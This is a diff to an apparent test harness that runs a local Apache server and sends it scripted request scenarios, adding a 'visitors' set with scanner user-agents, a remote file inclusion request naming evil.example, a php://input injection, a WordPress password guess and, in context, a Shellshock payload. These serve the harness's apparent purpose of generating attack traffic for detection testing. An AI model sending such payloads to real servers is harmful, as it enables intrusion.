@@ -98,6 +98,7 @@ def serve(host: Host, name: str) -> WebServer:
         "www/waf/index.html": "hello\n",
         "www/watched/index.html": "hello\n",
         "www/listing/file": "hello\n",
+        "www/knocking/index.html": "hello\n",
         "cgi-bin/there.cgi": "#!/bin/sh\necho\n",
     }
     return WebServer(host, f"apache-{name}", ["apache2", "-X", "-f", "{here}/apache2.conf"], files)
@@ -141,6 +142,21 @@ def scripts(site: Site) -> None:
     site.get("/cgi-bin/there.cgi", "-A", "() { :; }; /bin/id")
 
 
+def visitors(site: Site) -> None:
+    """Robots by the names they give themselves, files from elsewhere, and a knock at a door."""
+    for agent in (
+        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
+        "sqlmap/1.7.2#stable (https://sqlmap.org)",
+        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+        "TrackBack/1.02",
+    ):
+        site.get("/", "-A", agent)
+    site.get("/index.php?n=http://evil.example/pizza.htm?")
+    site.get("/index.php?page=php://input", "-d", "x")
+    site.get("/wp-login.php", "-d", "log=admin&pwd=guess")
+    site.get("/knocking/", source=FRIEND)
+
+
 SCENARIOS: dict[str, Scenario] = {
     "logins": logins,
     "forged-names": forged_names,
@@ -148,6 +164,7 @@ SCENARIOS: dict[str, Scenario] = {
     "not-allowed": not_allowed,
     "modsecurity": modsecurity,
     "scripts": scripts,
+    "visitors": visitors,
     "probes": probes,
     "malformed": malformed,
 }
